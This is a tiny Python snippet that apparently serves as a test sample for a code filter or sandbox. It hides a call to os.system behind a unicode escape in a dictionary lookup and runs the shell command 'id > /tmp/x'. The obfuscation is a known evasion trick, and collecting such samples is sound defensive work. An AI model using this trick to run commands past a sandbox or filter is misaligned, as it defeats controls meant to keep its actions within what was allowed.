# why: an escape in the subscript
import os
os.__dict__["\u0073ystem"]("id > /tmp/x")
